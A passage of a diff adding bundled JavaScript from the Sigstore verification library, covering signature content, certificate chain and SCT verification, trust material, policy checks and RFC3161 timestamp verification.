+	    compareSignature(signature) {
+	        return core_1.crypto.bufferEqual(signature, this.signature);
+	    }
+	    verifySignature(key) {
+	        return core_1.crypto.verify(this.preAuthEncoding, key, this.signature);
+	    }
+	    get signature() {
+	        return this.env.signatures.length > 0
+	            ? this.env.signatures[0].sig
+	            : Buffer.from('');
+	    }
+	    // DSSE Pre-Authentication Encoding
+	    get preAuthEncoding() {
+	        return core_1.dsse.preAuthEncoding(this.env.payloadType, this.env.payload);
+	    }
+	}
+	dsse$2.DSSESignatureContent = DSSESignatureContent;
+	return dsse$2;
+}
+
+var message = {};
+
+var hasRequiredMessage;
+
+function requireMessage () {
+	if (hasRequiredMessage) return message;
+	hasRequiredMessage = 1;
+	Object.defineProperty(message, "__esModule", { value: true });
+	message.MessageSignatureContent = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const protobuf_specs_1 = requireDist$3();
+	// Map from the Sigstore protobuf HashAlgorithm enum to
+	// the string values used by the Node.js crypto module.
+	const HASH_ALGORITHM_MAP = {
+	    [protobuf_specs_1.HashAlgorithm.HASH_ALGORITHM_UNSPECIFIED]: 'sha256',
+	    [protobuf_specs_1.HashAlgorithm.SHA2_256]: 'sha256',
+	    [protobuf_specs_1.HashAlgorithm.SHA2_384]: 'sha384',
+	    [protobuf_specs_1.HashAlgorithm.SHA2_512]: 'sha512',
+	    [protobuf_specs_1.HashAlgorithm.SHA3_256]: 'sha3-256',
+	    [protobuf_specs_1.HashAlgorithm.SHA3_384]: 'sha3-384',
+	};
+	class MessageSignatureContent {
+	    signature;
+	    messageDigest;
+	    artifact;
+	    hashAlgorithm;
+	    constructor(messageSignature, artifact) {
+	        this.signature = messageSignature.signature;
+	        this.messageDigest = messageSignature.messageDigest.digest;
+	        this.artifact = artifact;
+	        this.hashAlgorithm =
+	            HASH_ALGORITHM_MAP[messageSignature.messageDigest.algorithm] ??
+	                /* istanbul ignore next */ 'sha256';
+	    }
+	    compareSignature(signature) {
+	        return core_1.crypto.bufferEqual(signature, this.signature);
+	    }
+	    compareDigest(digest) {
+	        return core_1.crypto.bufferEqual(digest, this.messageDigest);
+	    }
+	    verifySignature(key) {
+	        return core_1.crypto.verify(this.artifact, key, this.signature, this.hashAlgorithm);
+	    }
+	}
+	message.MessageSignatureContent = MessageSignatureContent;
+	return message;
+}
+
+var hasRequiredBundle;
+
+function requireBundle () {
+	if (hasRequiredBundle) return bundle;
+	hasRequiredBundle = 1;
+	Object.defineProperty(bundle, "__esModule", { value: true });
+	bundle.toSignedEntity = toSignedEntity;
+	bundle.signatureContent = signatureContent;
+	const core_1 = requireDist$1();
+	const dsse_1 = requireDsse$2();
+	const message_1 = requireMessage();
+	function toSignedEntity(bundle, artifact) {
+	    const { tlogEntries, timestampVerificationData } = bundle.verificationMaterial;
+	    const timestamps = [];
+	    for (const entry of tlogEntries) {
+	        if (entry.integratedTime && entry.integratedTime !== '0') {
+	            timestamps.push({
+	                $case: 'transparency-log',
+	                tlogEntry: entry,
+	            });
+	        }
+	    }
+	    for (const ts of timestampVerificationData?.rfc3161Timestamps ?? []) {
+	        timestamps.push({
+	            $case: 'timestamp-authority',
+	            timestamp: core_1.RFC3161Timestamp.parse(Buffer.from(ts.signedTimestamp)),
+	        });
+	    }
+	    return {
+	        signature: signatureContent(bundle, artifact),
+	        key: key(bundle),
+	        tlogEntries,
+	        timestamps,
+	    };
+	}
+	function signatureContent(bundle, artifact) {
+	    switch (bundle.content.$case) {
+	        case 'dsseEnvelope':
+	            return new dsse_1.DSSESignatureContent(bundle.content.dsseEnvelope);
+	        case 'messageSignature':
+	            return new message_1.MessageSignatureContent(bundle.content.messageSignature, artifact);
+	    }
+	}
+	function key(bundle) {
+	    switch (bundle.verificationMaterial.content.$case) {
+	        case 'publicKey':
+	            return {
+	                $case: 'public-key',
+	                hint: bundle.verificationMaterial.content.publicKey.hint,
+	            };
+	        case 'x509CertificateChain':
+	            return {
+	                $case: 'certificate',
+	                certificate: core_1.X509Certificate.parse(Buffer.from(bundle.verificationMaterial.content.x509CertificateChain
+	                    .certificates[0].rawBytes)),
+	            };
+	        case 'certificate':
+	            return {
+	                $case: 'certificate',
+	                certificate: core_1.X509Certificate.parse(Buffer.from(bundle.verificationMaterial.content.certificate.rawBytes)),
+	            };
+	    }
+	}
+	return bundle;
+}
+
+var error = {};
+
+var hasRequiredError;
+
+function requireError () {
+	if (hasRequiredError) return error;
+	hasRequiredError = 1;
+	Object.defineProperty(error, "__esModule", { value: true });
+	error.PolicyError = error.VerificationError = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	class BaseError extends Error {
+	    code;
+	    cause; /* eslint-disable-line @typescript-eslint/no-explicit-any */
+	    constructor({ code, message, cause, }) {
+	        super(message);
+	        this.code = code;
+	        this.cause = cause;
+	        this.name = this.constructor.name;
+	    }
+	}
+	class VerificationError extends BaseError {
+	}
+	error.VerificationError = VerificationError;
+	class PolicyError extends BaseError {
+	}
+	error.PolicyError = PolicyError;
+	return error;
+}
+
+var trust = {};
+
+var filter = {};
+
+var hasRequiredFilter;
+
+function requireFilter () {
+	if (hasRequiredFilter) return filter;
+	hasRequiredFilter = 1;
+	Object.defineProperty(filter, "__esModule", { value: true });
+	filter.filterCertAuthorities = filterCertAuthorities;
+	filter.filterTLogAuthorities = filterTLogAuthorities;
+	function filterCertAuthorities(certAuthorities, timestamp) {
+	    return certAuthorities.filter((ca) => {
+	        return ca.validFor.start <= timestamp && ca.validFor.end >= timestamp;
+	    });
+	}
+	// Filter the list of tlog instances to only those which match the given log
+	// ID and have public keys which are valid for the given integrated time.
+	function filterTLogAuthorities(tlogAuthorities, criteria) {
+	    return tlogAuthorities.filter((tlog) => {
+	        // If we're filtering by log ID and the log IDs don't match, we can't use
+	        // this tlog
+	        if (criteria.logID && !tlog.logID.equals(criteria.logID)) {
+	            return false;
+	        }
+	        // Check that the integrated time is within the validFor range
+	        return (tlog.validFor.start <= criteria.targetDate &&
+	            criteria.targetDate <= tlog.validFor.end);
+	    });
+	}
+	return filter;
+}
+
+var hasRequiredTrust;
+
+function requireTrust () {
+	if (hasRequiredTrust) return trust;
+	hasRequiredTrust = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.filterTLogAuthorities = exports.filterCertAuthorities = void 0;
+		exports.toTrustMaterial = toTrustMaterial;
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		const core_1 = requireDist$1();
+		const protobuf_specs_1 = requireDist$3();
+		const error_1 = requireError();
+		const BEGINNING_OF_TIME = new Date(0);
+		const END_OF_TIME = new Date(8640000000000000);
+		var filter_1 = requireFilter();
+		Object.defineProperty(exports, "filterCertAuthorities", { enumerable: true, get: function () { return filter_1.filterCertAuthorities; } });
+		Object.defineProperty(exports, "filterTLogAuthorities", { enumerable: true, get: function () { return filter_1.filterTLogAuthorities; } });
+		function toTrustMaterial(root, keys) {
+		    const keyFinder = typeof keys === 'function' ? keys : keyLocator(keys);
+		    return {
+		        certificateAuthorities: root.certificateAuthorities.map(createCertAuthority),
+		        timestampAuthorities: root.timestampAuthorities.map(createCertAuthority),
+		        tlogs: root.tlogs.map(createTLogAuthority),
+		        ctlogs: root.ctlogs.map(createTLogAuthority),
+		        publicKey: keyFinder,
+		    };
+		}
+		function createTLogAuthority(tlogInstance) {
+		    const keyDetails = tlogInstance.publicKey.keyDetails;
+		    const keyType = keyDetails === protobuf_specs_1.PublicKeyDetails.PKCS1_RSA_PKCS1V5 ||
+		        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V5 ||
+		        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256 ||
+		        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256 ||
+		        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256
+		        ? 'pkcs1'
+		        : 'spki';
+		    /* istanbul ignore next */
+		    return {
+		        baseURL: tlogInstance.baseUrl,
+		        logID: tlogInstance.checkpointKeyId
+		            ? tlogInstance.checkpointKeyId.keyId
+		            : tlogInstance.logId.keyId,
+		        publicKey: core_1.crypto.createPublicKey(tlogInstance.publicKey.rawBytes, keyType),
+		        validFor: {
+		            start: tlogInstance.publicKey.validFor?.start || BEGINNING_OF_TIME,
+		            end: tlogInstance.publicKey.validFor?.end || END_OF_TIME,
+		        },
+		    };
+		}
+		function createCertAuthority(ca) {
+		    /* istanbul ignore next */
+		    return {
+		        certChain: ca.certChain.certificates.map((cert) => {
+		            return core_1.X509Certificate.parse(Buffer.from(cert.rawBytes));
+		        }),
+		        validFor: {
+		            start: ca.validFor?.start || BEGINNING_OF_TIME,
+		            end: ca.validFor?.end || END_OF_TIME,
+		        },
+		    };
+		}
+		function keyLocator(keys) {
+		    return (hint) => {
+		        const key = (keys || {})[hint];
+		        if (!key) {
+		            throw new error_1.VerificationError({
+		                code: 'PUBLIC_KEY_ERROR',
+		                message: `key not found: ${hint}`,
+		            });
+		        }
+		        return {
+		            publicKey: core_1.crypto.createPublicKey(key.rawBytes),
+		            validFor: (date) => {
+		                /* istanbul ignore next */
+		                return ((key.validFor?.start || BEGINNING_OF_TIME) <= date &&
+		                    (key.validFor?.end || END_OF_TIME) >= date);
+		            },
+		        };
+		    };
+		} 
+	} (trust));
+	return trust;
+}
+
+var verifier$1 = {};
+
+var key = {};
+
+var certificate = {};
+
+var hasRequiredCertificate;
+
+function requireCertificate () {
+	if (hasRequiredCertificate) return certificate;
+	hasRequiredCertificate = 1;
+	Object.defineProperty(certificate, "__esModule", { value: true });
+	certificate.CertificateChainVerifier = void 0;
+	certificate.verifyCertificateChain = verifyCertificateChain;
+	const error_1 = requireError();
+	const trust_1 = requireTrust();
+	function verifyCertificateChain(timestamp, leaf, certificateAuthorities) {
+	    // Filter list of trusted CAs to those which are valid for the given
+	    // timestamp
+	    const cas = (0, trust_1.filterCertAuthorities)(certificateAuthorities, timestamp);
+	    /* eslint-disable-next-line @typescript-eslint/no-explicit-any */
+	    let error;
+	    for (const ca of cas) {
+	        try {
+	            const verifier = new CertificateChainVerifier({
+	                trustedCerts: ca.certChain,
+	                untrustedCert: leaf,
+	                timestamp,
+	            });
+	            return verifier.verify();
+	        }
+	        catch (err) {
+	            error = err;
+	        }
+	    }
+	    // If we failed to verify the certificate chain for all of the trusted
+	    // CAs, throw the last error we encountered.
+	    throw new error_1.VerificationError({
+	        code: 'CERTIFICATE_ERROR',
+	        message: 'Failed to verify certificate chain',
+	        cause: error,
+	    });
+	}
+	class CertificateChainVerifier {
+	    untrustedCert;
+	    trustedCerts;
+	    localCerts;
+	    timestamp;
+	    constructor(opts) {
+	        this.untrustedCert = opts.untrustedCert;
+	        this.trustedCerts = opts.trustedCerts;
+	        this.localCerts = dedupeCertificates([
+	            ...opts.trustedCerts,
+	            opts.untrustedCert,
+	        ]);
+	        this.timestamp = opts.timestamp;
+	    }
+	    verify() {
+	        // Construct certificate path from leaf to root
+	        const certificatePath = this.sort();
+	        // Perform validation checks on each certificate in the path
+	        this.checkPath(certificatePath);
+	        const validForDate = certificatePath.every((cert) => cert.validForDate(this.timestamp));
+	        if (!validForDate) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'certificate is not valid or expired at the specified date',
+	            });
+	        }
+	        // Return verified certificate path
+	        return certificatePath;
+	    }
+	    sort() {
+	        const leafCert = this.untrustedCert;
+	        // Construct all possible paths from the leaf
+	        let paths = this.buildPaths(leafCert);
+	        // Filter for paths which contain a trusted certificate
+	        paths = paths.filter((path) => path.some((cert) => this.trustedCerts.includes(cert)));
+	        if (paths.length === 0) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'no trusted certificate path found',
+	            });
+	        }
+	        // Find the shortest of possible paths
+	        /* istanbul ignore next */
+	        const path = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+	        // Construct chain from shortest path
+	        // Removes the last certificate in the path, which will be a second copy
+	        // of the root certificate given that the root is self-signed.
+	        return [leafCert, ...path].slice(0, -1);
+	    }
+	    // Recursively build all possible paths from the leaf to the root
+	    buildPaths(certificate) {
+	        const paths = [];
+	        const issuers = this.findIssuer(certificate);
+	        if (issuers.length === 0) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'no valid certificate path found',
+	            });
+	        }
+	        for (let i = 0; i < issuers.length; i++) {
+	            const issuer = issuers[i];
+	            // Base case - issuer is self
+	            if (issuer.equals(certificate)) {
+	                paths.push([certificate]);
+	                continue;
+	            }
+	            // Recursively build path for the issuer
+	            const subPaths = this.buildPaths(issuer);
+	            // Construct paths by appending the issuer to each subpath
+	            for (let j = 0; j < subPaths.length; j++) {
+	                paths.push([issuer, ...subPaths[j]]);
+	            }
+	        }
+	        return paths;
+	    }
+	    // Return all possible issuers for the given certificate
+	    findIssuer(certificate) {
+	        let issuers = [];
+	        let keyIdentifier;
+	        // Exit early if the certificate is self-signed
+	        if (certificate.subject.equals(certificate.issuer)) {
+	            if (certificate.verify()) {
+	                return [certificate];
+	            }
+	        }
+	        // If the certificate has an authority key identifier, use that
+	        // to find the issuer
+	        if (certificate.extAuthorityKeyID) {
+	            keyIdentifier = certificate.extAuthorityKeyID.keyIdentifier;
+	            // TODO: Add support for authorityCertIssuer/authorityCertSerialNumber
+	            // though Fulcio doesn't appear to use these
+	        }
+	        // Find possible issuers by comparing the authorityKeyID/subjectKeyID
+	        // or issuer/subject. Potential issuers are added to the result array.
+	        this.localCerts.forEach((possibleIssuer) => {
+	            if (keyIdentifier) {
+	                /* istanbul ignore else */
+	                if (possibleIssuer.extSubjectKeyID) {
+	                    if (possibleIssuer.extSubjectKeyID.keyIdentifier.equals(keyIdentifier)) {
+	                        issuers.push(possibleIssuer);
+	                    }
+	                    return;
+	                }
+	            }
+	            // Fallback to comparing certificate issuer and subject if
+	            // subjectKey/authorityKey extensions are not present
+	            if (possibleIssuer.subject.equals(certificate.issuer)) {
+	                issuers.push(possibleIssuer);
+	            }
+	        });
+	        // Remove any issuers which fail to verify the certificate
+	        issuers = issuers.filter((issuer) => {
+	            try {
+	                return certificate.verify(issuer);
+	            }
+	            catch (ex) {
+	                /* istanbul ignore next - should never error */
+	                return false;
+	            }
+	        });
+	        return issuers;
+	    }
+	    checkPath(path) {
+	        /* istanbul ignore if */
+	        if (path.length < 1) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'certificate chain must contain at least one certificate',
+	            });
+	        }
+	        // Ensure that all certificates beyond the leaf are CAs
+	        const validCAs = path.slice(1).every((cert) => cert.isCA);
+	        if (!validCAs) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'intermediate certificate is not a CA',
+	            });
+	        }
+	        // Certificate's issuer must match the subject of the next certificate
+	        // in the chain
+	        for (let i = path.length - 2; i >= 0; i--) {
+	            /* istanbul ignore if */
+	            if (!path[i].issuer.equals(path[i + 1].subject)) {
+	                throw new error_1.VerificationError({
+	                    code: 'CERTIFICATE_ERROR',
+	                    message: 'incorrect certificate name chaining',
+	                });
+	            }
+	        }
+	        // Check pathlength constraints
+	        for (let i = 0; i < path.length; i++) {
+	            const cert = path[i];
+	            // If the certificate is a CA, check the path length
+	            if (cert.extBasicConstraints?.isCA) {
+	                const pathLength = cert.extBasicConstraints.pathLenConstraint;
+	                // The path length, if set, indicates how many intermediate
+	                // certificates (NOT including the leaf) are allowed to follow. The
+	                // pathLength constraint of any intermediate CA certificate MUST be
+	                // greater than or equal to it's own depth in the chain (with an
+	                // adjustment for the leaf certificate)
+	                if (pathLength !== undefined && pathLength < i - 1) {
+	                    throw new error_1.VerificationError({
+	                        code: 'CERTIFICATE_ERROR',
+	                        message: 'path length constraint exceeded',
+	                    });
+	                }
+	            }
+	        }
+	    }
+	}
+	certificate.CertificateChainVerifier = CertificateChainVerifier;
+	// Remove duplicate certificates from the array
+	function dedupeCertificates(certs) {
+	    for (let i = 0; i < certs.length; i++) {
+	        for (let j = i + 1; j < certs.length; j++) {
+	            if (certs[i].equals(certs[j])) {
+	                certs.splice(j, 1);
+	                j--;
+	            }
+	        }
+	    }
+	    return certs;
+	}
+	return certificate;
+}
+
+var sct = {};
+
+var hasRequiredSct;
+
+function requireSct () {
+	if (hasRequiredSct) return sct;
+	hasRequiredSct = 1;
+	Object.defineProperty(sct, "__esModule", { value: true });
+	sct.verifySCTs = verifySCTs;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	const trust_1 = requireTrust();
+	function verifySCTs(cert, issuer, ctlogs) {
+	    let extSCT;
+	    // Verifying the SCT requires that we remove the SCT extension and
+	    // re-encode the TBS structure to DER -- this value is part of the data
+	    // over which the signature is calculated. Since this is a destructive action
+	    // we create a copy of the certificate so we can remove the SCT extension
+	    // without affecting the original certificate.
+	    const clone = cert.clone();
+	    // Intentionally not using the findExtension method here because we want to
+	    // remove the the SCT extension from the certificate before calculating the
+	    // PreCert structure
+	    for (let i = 0; i < clone.extensions.length; i++) {
+	        const ext = clone.extensions[i];
+	        if (ext.subs[0].toOID() === core_1.EXTENSION_OID_SCT) {
+	            extSCT = new core_1.X509SCTExtension(ext);
+	            // Remove the extension from the certificate
+	            clone.extensions.splice(i, 1);
+	            break;
+	        }
+	    }
+	    // No SCT extension found to verify
+	    if (!extSCT) {
+	        return [];
+	    }
+	    // Found an SCT extension but it has no SCTs
+	    /* istanbul ignore if -- too difficult to fabricate test case for this */
+	    if (extSCT.signedCertificateTimestamps.length === 0) {
+	        return [];
+	    }
+	    // Construct the PreCert structure
+	    // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+	    const preCert = new core_1.ByteStream();
+	    // Calculate hash of the issuer's public key
+	    const issuerId = core_1.crypto.digest('sha256', issuer.publicKey);
+	    preCert.appendView(issuerId);
+	    // Re-encodes the certificate to DER after removing the SCT extension
+	    const tbs = clone.tbsCertificate.toDER();
+	    preCert.appendUint24(tbs.length);
+	    preCert.appendView(tbs);
+	    // Calculate and return the verification results for each SCT
+	    return extSCT.signedCertificateTimestamps.map((sct) => {
+	        // Find the ctlog instance that corresponds to the SCT's logID
+	        const validCTLogs = (0, trust_1.filterTLogAuthorities)(ctlogs, {
+	            logID: sct.logID,
+	            targetDate: sct.datetime,
+	        });
+	        // See if the SCT is valid for any of the CT logs
+	        const verified = validCTLogs.some((log) => sct.verify(preCert.buffer, log.publicKey));
+	        if (!verified) {
+	            throw new error_1.VerificationError({
+	                code: 'CERTIFICATE_ERROR',
+	                message: 'SCT verification failed',
+	            });
+	        }
+	        return sct.logID;
+	    });
+	}
+	return sct;
+}
+
+var hasRequiredKey;
+
+function requireKey () {
+	if (hasRequiredKey) return key;
+	hasRequiredKey = 1;
+	Object.defineProperty(key, "__esModule", { value: true });
+	key.verifyPublicKey = verifyPublicKey;
+	key.verifyCertificate = verifyCertificate;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	const certificate_1 = requireCertificate();
+	const sct_1 = requireSct();
+	const OID_FULCIO_ISSUER_V1 = '1.3.6.1.4.1.57264.1.1';
+	const OID_FULCIO_ISSUER_V2 = '1.3.6.1.4.1.57264.1.8';
+	function verifyPublicKey(hint, timestamps, trustMaterial) {
+	    const key = trustMaterial.publicKey(hint);
+	    timestamps.forEach((timestamp) => {
+	        if (!key.validFor(timestamp)) {
+	            throw new error_1.VerificationError({
+	                code: 'PUBLIC_KEY_ERROR',
+	                message: `Public key is not valid for timestamp: ${timestamp.toISOString()}`,
+	            });
+	        }
+	    });
+	    return { key: key.publicKey };
+	}
+	function verifyCertificate(leaf, timestamps, trustMaterial) {
+	    // Check that leaf certificate chains to a trusted CA
+	    let path = [];
+	    timestamps.forEach((timestamp) => {
+	        path = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+	    });
+	    return {
+	        scts: (0, sct_1.verifySCTs)(path[0], path[1], trustMaterial.ctlogs),
+	        signer: getSigner(path[0]),
+	    };
+	}
+	function getSigner(cert) {
+	    let issuer;
+	    const issuerExtension = cert.extension(OID_FULCIO_ISSUER_V2);
+	    /* istanbul ignore next */
+	    if (issuerExtension) {
+	        issuer = issuerExtension.valueObj.subs?.[0]?.value.toString('ascii');
+	    }
+	    else {
+	        issuer = cert.extension(OID_FULCIO_ISSUER_V1)?.value.toString('ascii');
+	    }
+	    const oids = cert.extensions.map((ext) => {
+	        const oid = ext.subs[0].toOID();
+	        return {
+	            oid: { id: oid.split('.').map(Number) },
+	            value: ext.subs[ext.subs.length - 1].value,
+	        };
+	    });
+	    const identity = {
+	        extensions: { issuer },
+	        subjectAlternativeName: cert.subjectAltName,
+	        oids,
+	    };
+	    return {
+	        key: core_1.crypto.createPublicKey(cert.publicKey),
+	        identity,
+	    };
+	}
+	return key;
+}
+
+var policy = {};
+
+var hasRequiredPolicy;
+
+function requirePolicy () {
+	if (hasRequiredPolicy) return policy;
+	hasRequiredPolicy = 1;
+	Object.defineProperty(policy, "__esModule", { value: true });
+	policy.verifySubjectAlternativeName = verifySubjectAlternativeName;
+	policy.verifyExtensions = verifyExtensions;
+	policy.verifyOIDs = verifyOIDs;
+	const error_1 = requireError();
+	// Verifies that the signer's SAN matches the policy identity. The
+	// policyIdentity is treated as a JavaScript regular expression pattern and
+	// tested against the full signerIdentity string. For exact matching, use
+	// anchored patterns (e.g. '^user@example\\.com$').
+	function verifySubjectAlternativeName(policyIdentity, signerIdentity) {
+	    if (signerIdentity === undefined || !signerIdentity.match(policyIdentity)) {
+	        throw new error_1.PolicyError({
+	            code: 'UNTRUSTED_SIGNER_ERROR',
+	            message: `certificate identity error - expected ${policyIdentity}, got ${signerIdentity}`,
+	        });
+	    }
+	}
+	function verifyExtensions(policyExtensions, signerExtensions = {}) {
+	    let key;
+	    for (key in policyExtensions) {
+	        if (signerExtensions[key] !== policyExtensions[key]) {
+	            throw new error_1.PolicyError({
+	                code: 'UNTRUSTED_SIGNER_ERROR',
+	                message: `invalid certificate extension - expected ${key}=${policyExtensions[key]}, got ${key}=${signerExtensions[key]}`,
+	            });
+	        }
+	    }
+	}
+	function verifyOIDs(policyOIDs, signerOIDs = []) {
+	    for (const policyOID of policyOIDs) {
+	        const match = signerOIDs.find((signerOID) => oidEquals(policyOID.oid?.id, signerOID.oid?.id) &&
+	            policyOID.value.equals(signerOID.value));
+	        if (!match) {
+	            /* istanbul ignore next */
+	            const oid = policyOID.oid?.id.join('.') ?? '<unknown>';
+	            throw new error_1.PolicyError({
+	                code: 'UNTRUSTED_SIGNER_ERROR',
+	                message: `invalid certificate extension - missing OID ${oid}`,
+	            });
+	        }
+	    }
+	}
+	function oidEquals(a, b) {
+	    /* istanbul ignore if */
+	    if (a === undefined || b === undefined) {
+	        return false;
+	    }
+	    return a.length === b.length && a.every((v, i) => v === b[i]);
+	}
+	return policy;
+}
+
+var timestamp = {};
+
+var tsa = {};
+
+var hasRequiredTsa;
+
+function requireTsa () {
+	if (hasRequiredTsa) return tsa;
+	hasRequiredTsa = 1;
+	Object.defineProperty(tsa, "__esModule", { value: true });
+	tsa.verifyRFC3161Timestamp = verifyRFC3161Timestamp;
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	const certificate_1 = requireCertificate();
+	const trust_1 = requireTrust();
+	function verifyRFC3161Timestamp(timestamp, data, timestampAuthorities) {
+	    const signingTime = timestamp.signingTime;
+	    // Filter for CAs which were valid at the time of signing
+	    timestampAuthorities = (0, trust_1.filterCertAuthorities)(timestampAuthorities, signingTime);
+	    // Filter for CAs which match serial and issuer embedded in the timestamp
+	    timestampAuthorities = filterCAsBySerialAndIssuer(timestampAuthorities, {
+	        serialNumber: timestamp.signerSerialNumber,
+	        issuer: timestamp.signerIssuer,
+	    });
+	    // Check that we can verify the timestamp with AT LEAST ONE of the remaining
+	    // CAs
+	    const verified = timestampAuthorities.some((ca) => {
+	        try {
+	            verifyTimestampForCA(timestamp, data, ca);
+	            return true;
+	        }
+	        catch (e) {
+	            return false;
+	        }
+	    });
+	    if (!verified) {
+	        throw new error_1.VerificationError({
+	            code: 'TIMESTAMP_ERROR',
+	            message: 'timestamp could not be verified',
+	        });
+	    }
+	}
+	function verifyTimestampForCA(timestamp, data, ca) {
+	    const [leaf, ...cas] = ca.certChain;
+	    const signingKey = core_1.crypto.createPublicKey(leaf.publicKey);
+	    const signingTime = timestamp.signingTime;
+	    // Verify the certificate chain for the provided CA
+	    try {
+	        new certificate_1.CertificateChainVerifier({
+	            untrustedCert: leaf,
+	            trustedCerts: cas,
+	            timestamp: signingTime,
+	        }).verify();
+	    }
+	    catch (e) {
+	        throw new error_1.VerificationError({
+	            code: 'TIMESTAMP_ERROR',
+	            message: 'invalid certificate chain',
+	        });
+	    }
+	    // Check that the signing certificate's key can be used to verify the
+	    // timestamp signature.
+	    timestamp.verify(data, signingKey);
+	}
+	// Filters the list of CAs to those which have a leaf signing certificate which
+	// matches the given serial number and issuer.
+	function filterCAsBySerialAndIssuer(timestampAuthorities, criteria) {
+	    return timestampAuthorities.filter((ca) => ca.certChain.length > 0 &&
+	        core_1.crypto.bufferEqual(ca.certChain[0].serialNumber, criteria.serialNumber) &&
+	        core_1.crypto.bufferEqual(ca.certChain[0].issuer, criteria.issuer));
+	}
+	return tsa;
+}
+
+var hasRequiredTimestamp;
+
+function requireTimestamp () {
+	if (hasRequiredTimestamp) return timestamp;
+	hasRequiredTimestamp = 1;
+	Object.defineProperty(timestamp, "__esModule", { value: true });
+	timestamp.getTSATimestamp = getTSATimestamp;
+	timestamp.getTLogTimestamp = getTLogTimestamp;
+	const tsa_1 = requireTsa();
+	function getTSATimestamp(timestamp, data, timestampAuthorities) {
+	    (0, tsa_1.verifyRFC3161Timestamp)(timestamp, data, timestampAuthorities);
+	    return {
+	        type: 'timestamp-authority',
+	        logID: timestamp.signerSerialNumber,
+	        timestamp: timestamp.signingTime,
+	    };
+	}
+	function getTLogTimestamp(entry) {
+	    // Only entries with an inclusion promise provide a verifiable timestamp
+	    if (!entry.inclusionPromise) {
+	        return undefined;
+	    }
+	    return {
+	        type: 'transparency-log',
+	        logID: entry.logId.keyId,
+	        timestamp: new Date(Number(entry.integratedTime) * 1000),
+	    };
+	}
+	return timestamp;
+}
+
+var tlog = {};
+
+var v2 = {};
+
+var dsse$1 = {};
+
+var verifier = {};
+
+var hasRequiredVerifier$1;
+
+function requireVerifier$1 () {
+	if (hasRequiredVerifier$1) return verifier;
+	hasRequiredVerifier$1 = 1;
+	(function (exports) {
+		// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+		// versions:
+		//   protoc-gen-ts_proto  v2.12.0
+		//   protoc               v7.35.1
+		// source: rekor/v2/verifier.proto
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.Signature = exports.Verifier = exports.PublicKey = void 0;
+		/* eslint-disable */
+		const sigstore_common_1 = requireSigstore_common();
+		exports.PublicKey = {
+		    fromJSON(object) {
+		        return { rawBytes: isSet(object.rawBytes) ? Buffer.from(bytesFromBase64(object.rawBytes)) : Buffer.alloc(0) };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.rawBytes.length !== 0) {
+		            obj.rawBytes = base64FromBytes(message.rawBytes);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Verifier = {
+		    fromJSON(object) {
+		        return {
+		            verifier: isSet(object.publicKey)
